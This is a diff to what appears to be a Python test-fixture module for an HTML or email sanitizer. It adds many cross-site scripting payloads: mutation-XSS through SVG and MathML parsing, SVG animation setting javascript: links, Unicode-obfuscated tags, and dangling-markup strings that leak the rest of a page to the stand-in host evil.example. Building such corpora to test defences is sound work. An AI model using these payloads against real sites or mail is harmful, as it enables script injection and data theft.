@@ -87,6 +87,64 @@ LOADS = [
 REMOTE = ["//evil.example/x", "http://evil.example/x", "https://evil.example/x", "HTTP:\\\\evil.example/x",
           "ht\ntp://evil.example/x", "\x01http://evil.example/x"]  # fmt: skip
 
+ROOTS = [
+    "svg", "math", "svg><desc", "svg><title", "svg><foreignObject", "math><mtext", "math><mi", "math><ms",
+    "math><annotation-xml encoding=text/html", "math><annotation-xml", "form><math><mtext", "table><svg",
+]  # fmt: skip
+RAW_TEXTS = [
+    "style", "title", "noscript", "textarea", "xmp", "iframe", "noembed", "noframes", "script", "plaintext",
+    "template", "mglyph><style", "table><mglyph><style", "p><style", "!--", "![CDATA[", "?xml ",
+]  # fmt: skip
+"""What is text where HTML reads it and elements where SVG or MathML do, or the other way round: a
+mutation when what was written is read again."""
+ESCAPES = [
+    "</{}><img src=x onerror=alert(1)>", "<a id='</{}><img src=//evil.example/x onerror=alert(1)>'>",
+    "--><img src=//evil.example/x onerror=alert(1)>", "]]><img src=//evil.example/x onerror=alert(1)>",
+]  # fmt: skip
+ANIMATED = [
+    "<svg><a><{0} attributeName={1} {2}=javascript:alert(1) begin=0s /><text y=9>x</text></a></svg>",
+    "<svg><{0} attributeName={1} {2}=//evil.example/x begin=0s /></svg>",
+    "<svg><image><{0} attributeName={1} {2}=//evil.example/x begin=0s /></image></svg>",
+    "<svg><{0} onbegin=alert(1) attributeName={1} {2}=x dur=1s /></svg>",
+]  # fmt: skip
+DANGLING = [
+    "<img src='//evil.example/?", '<img src="//evil.example/?', "<img src=//evil.example/?", "<img srcset='//evil.example/?",
+    "<p style='background:url(//evil.example/?", "<style>@import '//evil.example/?", "<a href='//evil.example/?",
+    "<form action='//evil.example/?'><textarea name=a>", "<form action=//evil.example/><select name=a><option>",
+    "<meta http-equiv=refresh content='0;url=//evil.example/?", "<base target='", "<link rel=stylesheet href='//evil.example/?",
+    "<object data='//evil.example/?", "<video poster='//evil.example/?", "<iframe src='//evil.example/?",
+    "<input type=image src='//evil.example/?", "<button formaction='//evil.example/?", "<table background='//evil.example/?",
+    "<noscript><form action=//evil.example/><input type=submit style='position:fixed;inset:0' value='",
+]  # fmt: skip
+"""Left open, so that what follows in the page goes along."""
+TURNED = [
+    "<a href='\u202ejavascript:alert(1)'>x</a>", "<a href='java\u202escript:alert(1)'>x</a>", "<scr\u202eipt>alert(1)</script>",
+    "<im\u200dg src=//evil.example/x>", "\u2066<img src=//evil.example/x onerror=alert(1)>\u2069", "<\u202eimg src=//evil.example/x>",
+    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e", "<\ufeffscript>alert(1)</script>",
+    "<\u017fcript>alert(1)</\u017fcript>", "<\u212amg src=//evil.example/x>", "<a href='javascr\u0131pt:alert(1)'>x</a>",
+]  # fmt: skip
+QUOTES = [
+    "{}", "<blockquote type=cite>{}", "<blockquote class=gmail_quote>{}</blockquote>",
+    "<div class=gmail_attr>Ann wrote:</div><blockquote class=gmail_quote>{}</blockquote>",
+    "<div class=gmail_signature>{}</div>", "<div id=divRplyFwdMsg>{}</div>", "<hr id=stopSpelling>{}",
+    "<div style='border:none;border-top:solid #E1E1E1 1.0pt'>{}</div>", "<blockquote type=cite title='</details>{}'>x",
+    "<div class='gmail_signature' title=\"<details ontoggle=alert(1) open>\">{}</div>", "<pre class=moz-signature>{}</pre>",
+]  # fmt: skip
+
+
+def folded():
+    """What folding might open again: vectors in what is quoted, in quotes, below what is seen."""
+    inner = [
+        *TRICKS,
+        *DANGLING,
+        "<img src=//evil.example/x onerror=alert(1)>",
+        "</details><script>alert(1)</script>",
+    ]
+    for vector, (outer, middle) in zip(
+        inner * 3, itertools.cycle(itertools.product(QUOTES, QUOTES))
+    ):
+        yield "seen" + outer.replace("{}", middle.replace("{}", vector))
+
 
 def vectors():
     """Ways to run a script, each as `alert(1)`, and to load something, each from evil.example."""
@@ -100,6 +158,17 @@ def vectors():
             yield f"<{tag} {handler}={quote}//evil.example/x{quote}>x"
     for holder, url in itertools.product(LOADS, REMOTE):
         yield holder.replace("{}", url)
+    for root, text, escape in itertools.product(ROOTS, RAW_TEXTS, ESCAPES):
+        # Each root meets each text, in one or other escape.
+        if (ROOTS.index(root) + RAW_TEXTS.index(text) + ESCAPES.index(escape)) % len(ESCAPES) == 0:
+            yield f"<{root}><{text}>" + escape.replace("{}", text.rpartition("<")[2])
+    for shape, element, attribute, value in itertools.product(
+        ANIMATED, ("animate", "set"), ("href", "xlink:href"), ("to", "values")
+    ):
+        yield shape.format(element, attribute, value)
+    yield from DANGLING
+    yield from TURNED
 
 
 VECTORS = list(vectors())
+FOLDED = list(folded())
